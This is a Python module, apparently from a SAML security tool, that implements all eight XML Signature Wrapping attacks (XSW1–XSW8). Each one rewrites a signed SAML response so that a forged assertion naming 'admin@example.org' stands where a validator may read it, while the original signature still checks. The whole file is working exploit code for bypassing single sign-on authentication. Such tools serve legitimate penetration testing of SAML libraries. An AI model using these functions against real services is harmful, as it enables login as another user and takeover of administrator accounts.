"""XML signature wrapping, XSW1 to XSW8 of the literature: the signed part moves aside, an evil one takes its place."""

from collections.abc import Callable
from copy import deepcopy
from typing import Any

from .forge import NS, Tree, assertion_of, etree

EVIL = "admin@example.org"


def _corrupt(element: Tree, new_id: str | None) -> Tree:
    """The same element with another person in it."""
    for node in element.iter(f"{{{NS['saml']}}}NameID", f"{{{NS['saml']}}}AttributeValue"):
        node.text = EVIL
    if new_id:
        element.set("ID", new_id)
    return element


def _signature(element: Tree) -> Tree:
    return element.find("ds:Signature", NS)


def _without_signature(element: Tree) -> Tree:
    element.remove(_signature(element))
    return element


def _object(signature: Tree) -> Tree:
    return etree.SubElement(signature, f"{{{NS['ds']}}}Object")


def xsw1(root: Tree, new_id: str | None) -> Tree:
    """The signed response inside the signature of an evil response."""
    original = _without_signature(deepcopy(root))
    _object(_signature(root)).append(original)
    return _corrupt_outside(root, original, new_id)


def xsw2(root: Tree, new_id: str | None) -> Tree:
    """The signed response beside the signature, in an evil response."""
    original = _without_signature(deepcopy(root))
    _signature(root).addprevious(original)
    return _corrupt_outside(root, original, new_id)


def _corrupt_outside(root: Tree, original: Tree, new_id: str | None) -> Tree:
    for node in root.iter(f"{{{NS['saml']}}}NameID", f"{{{NS['saml']}}}AttributeValue"):
        if original not in node.iterancestors():
            node.text = EVIL
    if new_id:
        root.set("ID", new_id)
    return root


def xsw3(root: Tree, new_id: str | None) -> Tree:
    """An evil assertion before the signed one."""
    original = assertion_of(root)
    original.addprevious(_corrupt(_without_signature(deepcopy(original)), new_id))
    return root


def xsw4(root: Tree, new_id: str | None) -> Tree:
    """The signed assertion inside an evil one."""
    original = assertion_of(root)
    evil = _corrupt(_without_signature(deepcopy(original)), new_id)
    root.replace(original, evil)
    evil.append(original)
    return root


def xsw5(root: Tree, new_id: str | None) -> Tree:
    """The evil assertion takes the signature; the signed one, without it, goes to the end."""
    original = assertion_of(root)
    evil = _corrupt(deepcopy(original), new_id)
    root.replace(original, evil)
    root.append(_without_signature(original))
    return root


def xsw6(root: Tree, new_id: str | None) -> Tree:
    """The signed assertion inside the signature, which the evil assertion has taken."""
    original = assertion_of(root)
    evil = _corrupt(deepcopy(original), new_id)
    root.replace(original, evil)
    _signature(evil).append(_without_signature(original))
    return root


def xsw7(root: Tree, new_id: str | None) -> Tree:
    """An evil assertion in Extensions, where the schema allows anything."""
    original = assertion_of(root)
    evil = _corrupt(_without_signature(deepcopy(original)), new_id)
    extensions = etree.Element(f"{{{NS['samlp']}}}Extensions")
    extensions.append(evil)
    root.find("saml:Issuer", NS).addnext(extensions)
    return root


def xsw8(root: Tree, new_id: str | None) -> Tree:
    """The signed assertion in an Object of the signature, which the evil assertion has taken."""
    original = assertion_of(root)
    evil = _corrupt(deepcopy(original), new_id)
    root.replace(original, evil)
    _object(_signature(evil)).append(_without_signature(original))
    return root


OF_A_RESPONSE: dict[str, Callable[[Any, str | None], Any]] = {"XSW1": xsw1, "XSW2": xsw2}
OF_AN_ASSERTION: dict[str, Callable[[Any, str | None], Any]] = {
    "XSW3": xsw3,
    "XSW4": xsw4,
    "XSW5": xsw5,
    "XSW6": xsw6,
    "XSW7": xsw7,
    "XSW8": xsw8,
}
